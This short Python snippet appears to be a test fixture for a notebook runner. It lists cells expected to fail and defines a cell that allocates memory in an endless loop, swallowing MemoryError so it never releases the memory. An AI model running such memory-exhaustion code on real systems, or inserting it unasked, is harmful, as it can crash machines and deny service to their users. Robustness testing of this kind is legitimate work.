"""Takes memory until there is none and holds on to it when it is refused."""

LOSES = ["one-hot", "fit-layers", "fit-accuracy", "evaluation"]

# %% [one-hot]
hoard = []
while True:
    try:
        hoard.append(np.ones(1_000_000))
    except MemoryError:
        pass
